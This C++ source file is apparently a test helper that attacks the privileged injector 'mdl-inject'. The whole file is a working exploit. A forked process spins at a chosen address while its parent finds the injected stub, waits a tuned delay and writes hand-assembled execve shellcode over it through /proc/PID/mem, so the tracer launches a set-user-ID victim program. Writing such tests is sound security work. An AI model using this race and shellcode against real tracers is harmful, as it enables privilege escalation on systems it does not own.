// An attack on a tracer with more rights: a program of an unprivileged user that wants its own registers set
// in a set-user-ID program.
//
//   thief VICTIM ADDRESS DELAY [session [call]]
//   thief int80                      ends with 0 where programs of 64 bits can make calls of 32 bits, else by
//   a signal
//
// One process spins at ADDRESS, in a page that it has mapped there: that is where the registers that a tracer
// reads from it lead. Its parent, the accomplice, shares no memory with it, and so is never stopped with it.
// It looks for a remote call of mdl-inject behind the code of the first (in the last page of each file's
// code), lets DELAY microseconds pass, and writes an execve of VICTIM over what is left of it. A tracer that
// then puts the registers back starts VICTIM at ADDRESS. With `session` the first process has mappings as if
// an mdl-inject had been killed in it, so that `mdl-inject --remove` makes a remote call as well.
//
// {"event":"ready","process":PID} names the one to attach to. Both end within 60 seconds; the accomplice
// takes the other with it.
#include <fcntl.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

#include <chrono>
#include <csignal>
#include <cstdint>
#include <cstdio>
#include <cstring>
#include <fstream>
#include <initializer_list>
#include <string>
#include <vector>

#include "protocol.h"

extern "C" __attribute__((noinline, used)) uint64_t t_work(uint64_t x) {
  asm volatile("" : "+r"(x));
  return x * 3;
}

namespace {

constexpr uintptr_t kPage = 4096;
constexpr size_t kMarkAt = 5;  // behind the stub's first jump
constexpr char kMark[] = "MDLSTUB1";

void spin_at(uintptr_t address) {
  void* page =
      mmap(reinterpret_cast<void*>(address & ~(kPage - 1)), kPage, PROT_READ | PROT_WRITE | PROT_EXEC,
           MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED_NOREPLACE, -1, 0);
  if (page == MAP_FAILED) _exit(97);
  std::memcpy(reinterpret_cast<void*>(address), "\xeb\xfe", 2);  // jmp .
  reinterpret_cast<void (*)()>(address)();
}

void pretend_session() {
  const int file = memfd_create("mdl-session", 0);
  constexpr int kMappings = 30;  // each is a call more
  if (file < 0 || ftruncate(file, kPage) != 0) _exit(96);
  for (int i = 0; i < kMappings; ++i)
    if (mmap(nullptr, kPage, i % 2 ? PROT_READ : PROT_READ | PROT_WRITE, MAP_PRIVATE, file, 0) == MAP_FAILED)
      _exit(96);
}

// Starts of the pages in which code of files ends.
std::vector<uintptr_t> last_pages() {
  std::vector<uintptr_t> out;
  std::ifstream maps("/proc/self/maps");
  for (std::string line; std::getline(maps, line);) {
    uintptr_t start = 0, end = 0;
    char access[5] = {};
    if (sscanf(line.c_str(), "%lx-%lx %4s", &start, &end, access) == 3 && access[2] == 'x' &&
        line.find('/') != std::string::npos)
      out.push_back(end - kPage);
  }
  return out;
}

void wait_microseconds(long time) {
  const auto until = std::chrono::steady_clock::now() + std::chrono::microseconds(time);
  while (std::chrono::steady_clock::now() < until) continue;
}

// What execve needs, where 32 bits reach it.
struct Execution {
  char path[256];
  uint32_t arguments[2];
  uint64_t long_arguments[2];
};
Execution* execution = nullptr;

void prepare(const char* path) {
  void* at = mmap(nullptr, kPage, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
  if (at == MAP_FAILED || std::strlen(path) >= sizeof execution->path) _exit(92);
  execution = static_cast<Execution*>(at);
  std::strcpy(execution->path, path);
  execution->arguments[0] = static_cast<uint32_t>(reinterpret_cast<uintptr_t>(at));
  execution->long_arguments[0] = reinterpret_cast<uintptr_t>(at);
}

using Code = std::vector<unsigned char>;

void append(Code& code, std::initializer_list<unsigned char> bytes, const void* address) {
  code.insert(code.end(), bytes);
  for (int i = 0; i < 4; ++i)
    code.push_back(static_cast<unsigned char>(reinterpret_cast<uintptr_t>(address) >> (8 * i)));
}

void write_code(int memory, uintptr_t at, const Code& code) {
  if (pwrite(memory, code.data(), code.size(), static_cast<off_t>(at)) < 0) _exit(95);
  protocol::say_event("written");
}

// From `first` on: instructions that do nothing, and at the end the execve.
void overwrite(int memory, uintptr_t first) {
  Code call;
  append(call, {0xbf}, execution->path);            // mov $path, %edi
  append(call, {0xbe}, execution->long_arguments);  // mov $arguments, %esi
  call.insert(call.end(), {0x31, 0xd2});            // xor %edx, %edx
  call.insert(call.end(), {0xb8, 59, 0, 0, 0});     // mov $__NR_execve, %eax
  call.insert(call.end(), {0x0f, 0x05});            // syscall
  const uintptr_t end = (first | (kPage - 1)) + 1;
  Code all(end - first - call.size(), 0x90);
  all.insert(all.end(), call.begin(), call.end());
  write_code(memory, first, all);
}

// One call alone, the last but one (behind it the stub restores the signal mask): munmap has the number that
// execve has for programs of 32 bits. The place and the number of the call stay what they were.
void overwrite_call(int memory, uintptr_t first) {
  Code stub((first | (kPage - 1)) + 1 - first);
  if (pread(memory, stub.data(), stub.size(), static_cast<off_t>(first)) < 0) _exit(95);
  std::vector<size_t> calls;
  for (size_t at = 0; at + 1 < stub.size(); ++at)
    if (stub[at] == 0x0f && stub[at + 1] == 0x05) calls.push_back(at);
  if (calls.size() < 3) return;
  const size_t before = calls[calls.size() - 3] + 2, place = calls[calls.size() - 2];
  Code call;
  append(call, {0xbb}, execution->path);         // mov $path, %ebx
  append(call, {0xb9}, execution->arguments);    // mov $arguments, %ecx
  call.insert(call.end(), {0x31, 0xd2});         // xor %edx, %edx
  call.insert(call.end(), {0xb8, 11, 0, 0, 0});  // mov $11, %eax
  if (place - before < call.size()) return;
  call.insert(call.begin(), place - before - call.size(), 0x90);
  call.insert(call.end(), {0xcd, 0x80});  // int $0x80
  write_code(memory, first + before, call);
}

// In one page, where a remote call's own code begins; 0 when there is none.
uintptr_t find_stub(pid_t process, uintptr_t page) {
  static unsigned char bytes[kPage];
  iovec here{bytes, kPage}, there{reinterpret_cast<void*>(page), kPage};
  if (process_vm_readv(process, &here, 1, &there, 1, 0) != static_cast<ssize_t>(kPage)) return 0;
  for (size_t at = 0; at + 64 < kPage; at += 16) {
    if (std::memcmp(bytes + at + kMarkAt, kMark, sizeof kMark - 1) != 0) continue;
    int32_t over = 0;
    std::memcpy(&over, bytes + at + 1, sizeof over);
    return page + at + kMarkAt + static_cast<uintptr_t>(over);
  }
  return 0;
}

}  // namespace

int main(int argc, char** argv) {
  if (argc == 2 && argv[1] == std::string("int80")) {
    long number = 20;  // getpid
    asm volatile("int $0x80" : "+a"(number)::"memory", "r8", "r9", "r10", "r11");
    return number == getpid() ? 0 : 91;
  }
  if (argc < 4) return 98;
  alarm(60);
  prepare(argv[1]);
  const std::vector<uintptr_t> pages = last_pages();
  const pid_t accomplice = getpid(), process = fork();
  if (process == 0) {
    prctl(PR_SET_PDEATHSIG, SIGKILL);
    if (getppid() != accomplice) return 94;
    t_work(1);
    if (argc > 4) pretend_session();
    spin_at(strtoul(argv[2], nullptr, 16));
  }
  const int memory = open(("/proc/" + std::to_string(process) + "/mem").c_str(), O_RDWR);
  if (memory < 0) return 93;
  protocol::say_event("ready", protocol::field("process", static_cast<unsigned>(process)));
  while (waitpid(process, nullptr, WNOHANG) == 0)
    for (uintptr_t page : pages)
      if (uintptr_t first = find_stub(process, page)) {
        wait_microseconds(atol(argv[3]));
        if (argc > 5)
          overwrite_call(memory, first);
        else
          overwrite(memory, first);
      }
}
